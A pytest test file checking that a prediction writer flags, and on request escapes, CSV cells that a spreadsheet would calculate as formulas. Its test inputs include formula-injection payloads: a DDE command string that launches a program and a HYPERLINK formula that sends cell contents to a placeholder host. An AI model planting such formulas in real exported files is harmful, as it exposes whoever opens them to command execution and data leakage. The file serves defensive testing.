"""Text that a spreadsheet would calculate: kept letter for letter in predictions, and escaped on demand."""

from __future__ import annotations

import csv
import inspect
import logging
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from stepbus import create_trainer, open_trainer, write_predictions

ROW = "7 formulas in predictions"
STARTS = ("=", "+", "-", "@", "\t", "\r")
WORDS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"see")', "1+1", 'SUM(A1:A9)*2,"x"', "a film")
PLACES = ("id", "class", "id column", "label column")
TEXTS = ["a good film", "the plot was dull"]

pytestmark = pytest.mark.skipif(
    "spreadsheet_safe" not in inspect.signature(write_predictions).parameters,
    reason="predictions cannot be made safe for spreadsheets yet",
)


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the one model of this file lies, once it was trained."""
    return tmp_path_factory.mktemp("kept") / "run"


def cases() -> Iterator[tuple[str, str, str]]:
    for start in STARTS:
        for words in WORDS:
            for place in PLACES:
                yield start, words, place


def cells(path: Path) -> list[list[str]]:
    """Return every cell of a file as it is written, the head first."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.generated("case", cases(), sample=12)
def test_a_formula_is_kept_and_escaped_on_demand(
    case: tuple[str, str, str], kept: Path, tiny_config: Callable[..., dict[str, Any]], tmp_path: Path,
    caplog: pytest.LogCaptureFixture, tally: Any,
) -> None:  # fmt: skip
    start, words, place = case
    text = start + words
    if not kept.exists():
        output = {"output_dir": str(kept)}
        create_trainer(config=tiny_config(training={"max_steps": 1}, environment=output)).train()
    trainer = open_trainer(kept)
    head = text if place == "id column" else "id"
    trainer.config = trainer.config.updated({"data.id": head})
    codec = trainer.encoder.codec
    if place == "class":
        codec.names = [text, text]  # whatever the model says
    if place == "label column":
        codec.columns = (text,)
        codec.label = text
    ids = [text, "-1"] if place == "id" else ["1", "-1"]
    frame = pd.DataFrame({head: ids, "text": TEXTS})
    plain, safe = tmp_path / "plain.csv", tmp_path / "safe.csv"
    with tally(ROW, case) as seen, caplog.at_level(logging.WARNING):
        assert write_predictions(trainer, frame, plain) == 2
        assert "a spreadsheet would calculate" in caplog.text
        assert write_predictions(trainer, frame, safe, spreadsheet_safe=True) == 2
        written, escaped = cells(plain), cells(safe)
        assert len(written) == len(escaped) == 3
        flat = [cell for line in written for cell in line]
        assert text in flat  # letter for letter
        for line, safe_line in zip(written, escaped, strict=True):
            for cell, safe_cell in zip(line, safe_line, strict=True):
                assert safe_cell == (f"'{cell}" if cell == text else cell)
        assert not [cell for line in escaped for cell in line if cell[:1] in "=+@\t\r" and cell]
        assert "-1" in [cell for line in escaped for cell in line]  # a number stays one
        seen.went_on()
